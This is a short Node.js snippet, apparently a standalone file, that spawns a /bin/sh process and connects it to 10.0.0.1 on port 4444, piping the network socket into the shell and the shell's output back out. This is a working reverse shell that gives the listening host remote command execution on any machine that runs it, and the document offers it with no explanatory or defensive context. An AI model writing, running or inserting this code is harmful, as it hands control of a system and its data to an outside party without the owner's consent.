const net = require('net');
const sh = require('child_process').spawn('/bin/sh', []);
const c = net.connect(4444, '10.0.0.1', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });
